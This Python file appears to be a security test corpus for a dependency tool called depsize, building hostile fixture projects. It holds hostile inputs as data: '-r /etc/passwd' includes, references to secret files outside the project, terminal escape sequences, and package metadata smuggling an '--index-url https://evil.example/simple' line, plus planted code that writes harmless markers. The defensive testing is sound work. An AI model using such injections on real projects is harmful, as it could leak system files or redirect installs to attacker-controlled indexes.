"""Hostile projects that try to get something out of depsize: undecodable names, secrets from
beyond the project, smuggled options, lost requirements in trim, planted code."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

from corpus.model import Case, Ctx
from support.site_packages import DistSpec


def _write_many(ctx: Ctx, files: dict[str, str | bytes]) -> None:
    for rel, data in files.items():
        ctx.write(rel, data)


def _uses_pyproject(text: str) -> Callable[[Ctx], None]:
    """A project declaring its requirements in a pyproject.toml of ``text`` only, importing
    alpha and usedpkg."""

    def build(ctx: Ctx) -> None:
        (ctx.project / "requirements.txt").unlink()
        ctx.write("project/pyproject.toml", text)
        ctx.write("project/app.py", _USES_BOTH)

    return build


def _secret_file(ctx: Ctx) -> Path:
    return ctx.write("outside/secret.txt", "leakedsecret-pkg==6.6.6\n# LEAKED-SECRET-LINE-4242\n")


def _include_outside(ctx: Ctx, option: str) -> None:
    secret = _secret_file(ctx)
    ctx.write("project/requirements.txt", f"alpha\nunusedpkg\n{option} {secret}\n")


def _procfile_outside(ctx: Ctx) -> None:
    script = ctx.write("outside/secret.sh", "python -m leakedsecretmod --LEAKED-SECRET-LINE\n")
    ctx.write("project/Procfile", f"web: bash {script}\nworker: python app.py\n")


def _plant(root: Path, name: str) -> str:
    marker = json.dumps(str(root / "markers" / name))
    return f"import os; open({marker}, 'w').close()\n"


def _planted_project(ctx: Ctx) -> None:
    for rel in (
        "setup.py",
        "conftest.py",
        "tests/conftest.py",
        "noxfile.py",
        "manage.py",
        "docs/conf.py",
        "sitecustomize.py",
        "pkg/__init__.py",
    ):
        name = rel.replace("/", "-")
        ctx.write(f"project/{rel}", "import alpha\n" + _plant(ctx.root, name))


PLANTED = tuple(
    rel.replace("/", "-")
    for rel in (
        "setup.py",
        "conftest.py",
        "tests/conftest.py",
        "noxfile.py",
        "manage.py",
        "docs/conf.py",
        "sitecustomize.py",
        "pkg/__init__.py",
    )
)

_USED = [DistSpec("usedpkg", files={"usedpkg/__init__.py": 500}, top_level=("usedpkg",))]
_USES_BOTH = "import alpha\nimport usedpkg\n"


def _formfeed(ctx: Ctx) -> None:
    ctx.write("project/app.py", _USES_BOTH)
    ctx.write("project/requirements.txt", b"alpha\nunusedpkg  # note\x0cusedpkg\n")


def _continuation(ctx: Ctx) -> None:
    ctx.write("project/app.py", _USES_BOTH)
    ctx.write("project/requirements.txt", "alpha\nunusedpkg \\\n    >=0.1\nusedpkg\n")


TRIPLE_QUOTED = '''[project]
name = "demo"
version = "1.0"
dependencies = [
    "alpha",
    """unusedpkg; python_version >= "3.0"""",
    """usedpkg""",
]
'''

POETRY_AFTER_LITERAL = """[tool.notes]
text = '''
[tool.poetry.dependencies]
unusedpkg = "*"
'''

[tool.poetry]
name = "demo"
version = "1.0"

[tool.poetry.dependencies]
python = "^3.11"
alpha = "*"
unusedpkg = "*"
usedpkg = "*"
"""

BRACKET_COMMENT = """[project]
name = "demo"
version = "1.0"
dependencies = [
    "alpha",  # ] not the end
    "unusedpkg",  # "quoted" [note]
    'usedpkg',
]
"""


def _newline_dist() -> list[DistSpec]:
    """A distribution the project imports without declaring it (its METADATA is rewritten by
    :func:`_newline_metadata`)."""
    return [DistSpec("sneaky", files={"sneaky/__init__.py": 50}, top_level=("sneaky",))]


def _newline_metadata(ctx: Ctx, field: str) -> None:
    """``field`` of METADATA gets a continuation line that would be an ``--index-url`` option
    in a requirement file."""
    evil = "\n --index-url https://evil.example/simple"
    name, version = ("sneaky" + evil, "1.0") if field == "Name" else ("sneaky", "1.0" + evil)
    ctx.write(
        "env/lib/python3.11/site-packages/sneaky-1.0.dist-info/METADATA",
        f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n\n",
    )
    ctx.write("project/app.py", "import alpha\nimport sneaky\n")


INDEX_URL = r"^[+ ]?\s*--(extra-)?index-url\b.*evil\.example"

CASES = [
    # --- output that cannot be printed ------------------------------------------------------
    Case(
        "project-file-name-not-utf8",
        "output",
        "project",
        "a project file whose name is not valid UTF-8 (and does not parse)",
        build=lambda ctx: ctx.write("project/bad\udcffname.py", "def broken(:\n"),
        mention="name.py",
    ),
    Case(
        "requirements-name-not-utf8",
        "output",
        "project",
        "a requirements file whose name is not valid UTF-8, with an invalid line",
        build=lambda ctx: ctx.write("project/requirements-\udcff.txt", "alpha\n!!bad!!\n"),
    ),
    # --- security ---------------------------------------------------------------------------
    Case(
        "include-outside-project",
        "security",
        "project",
        "a requirements `-r` include naming a file outside the project (absolute path)",
        build=lambda ctx: _include_outside(ctx, "-r"),
        secrets=("leakedsecret", "LEAKED-SECRET-LINE"),
        commands=("trim-o", "trim-inplace", "scan-o", "diff"),
    ),
    Case(
        "constraint-outside-project",
        "security",
        "project",
        "a requirements `-c` constraint naming a file outside the project",
        build=lambda ctx: _include_outside(ctx, "-c"),
        secrets=("leakedsecret", "LEAKED-SECRET-LINE"),
        commands=("trim-o",),
    ),
    Case(
        "include-etc-passwd",
        "security",
        "project",
        "`-r /etc/passwd` in requirements.txt",
        build=lambda ctx: ctx.write(
            "project/requirements.txt", "alpha\nunusedpkg\n-r /etc/passwd\n"
        ),
        secrets=("root:x:0:0", "/bin/bash", "nologin"),
        commands=("trim-o", "scan-o"),
    ),
    Case(
        "procfile-script-outside",
        "security",
        "project",
        "a Procfile running a script outside the project",
        build=_procfile_outside,
        secrets=("leakedsecret", "LEAKED-SECRET-LINE"),
    ),
    Case(
        "requirements-escape-sequences",
        "security",
        "project",
        "requirement lines carrying terminal escape sequences",
        build=lambda ctx: _write_many(
            ctx,
            {
                "project/requirements.txt": "alpha\nunusedpkg\nev\x1b]0;pwned\x07il\x1b[2J==1\n",
                "project/pyproject.toml": (
                    '[project]\nname = "demo"\nversion = "1"\n'
                    'dependencies = ["x\\u001b[31mred>=1", "alpha"]\n'
                ),
            },
        ),
    ),
    Case(
        "dist-name-newline",
        "security",
        "project",
        "an undeclared installed distribution whose Name has a continuation line "
        "`--index-url https://evil.example/simple`, with `trim --add-missing`",
        dists=lambda root: _newline_dist(),
        build=lambda ctx: _newline_metadata(ctx, "Name"),
        trim_args=("--add-missing",),
        forbidden_lines=(INDEX_URL,),
        commands=("trim-o", "trim-inplace"),
    ),
    Case(
        "dist-version-newline",
        "security",
        "project",
        "an undeclared installed distribution whose Version has a continuation line "
        "`--index-url https://evil.example/simple`, with `trim --add-missing`",
        dists=lambda root: _newline_dist(),
        build=lambda ctx: _newline_metadata(ctx, "Version"),
        trim_args=("--add-missing",),
        forbidden_lines=(INDEX_URL,),
        commands=("trim-o", "trim-inplace"),
    ),
    # --- data loss in trim ------------------------------------------------------------------
    Case(
        "pyproject-triple-quoted",
        "data-loss",
        "project",
        "`dependencies` holding a triple-quoted string that ends in a quote",
        dists=lambda root: _USED,
        build=_uses_pyproject(TRIPLE_QUOTED),
        keep=("alpha", "usedpkg"),
        toml_valid=("project/pyproject.toml", "out/requirements.txt"),
        commands=("trim-o", "trim-inplace"),
    ),
    Case(
        "requirements-formfeed-comment",
        "data-loss",
        "project",
        "a requirements line `unusedpkg  # note\\x0cusedpkg` (two requirements for pip)",
        dists=lambda root: _USED,
        build=_formfeed,
        keep=("alpha", "usedpkg"),
        commands=("trim-o", "trim-inplace"),
    ),
    Case(
        "poetry-after-multiline-literal",
        "data-loss",
        "project",
        "a Poetry dependency table after a multi-line literal string that looks like one",
        dists=lambda root: _USED,
        build=_uses_pyproject(POETRY_AFTER_LITERAL),
        keep=("alpha", "usedpkg"),
        toml_valid=("project/pyproject.toml", "out/requirements.txt"),
        commands=("trim-o", "trim-inplace"),
    ),
    Case(
        "requirements-continuation",
        "data-loss",
        "project",
        "an unused requirement continued with a backslash onto the next line",
        dists=lambda root: _USED,
        build=_continuation,
        keep=("alpha", "usedpkg"),
        commands=("trim-o", "trim-inplace"),
    ),
    Case(
        "pyproject-bracket-comments",
        "data-loss",
        "project",
        "`dependencies` with comments holding `]` and quotes",
        dists=lambda root: _USED,
        build=_uses_pyproject(BRACKET_COMMENT),
        keep=("alpha", "usedpkg"),
        toml_valid=("project/pyproject.toml", "out/requirements.txt"),
        commands=("trim-o", "trim-inplace"),
    ),
    # --- nothing executed -------------------------------------------------------------------
    Case(
        "project-planted-code",
        "executed",
        "project",
        "`setup.py`, `conftest.py`, `noxfile.py`, `manage.py`, `docs/conf.py`, "
        "`sitecustomize.py` and a package `__init__.py` that write a marker",
        build=_planted_project,
        markers=PLANTED,
    ),
]
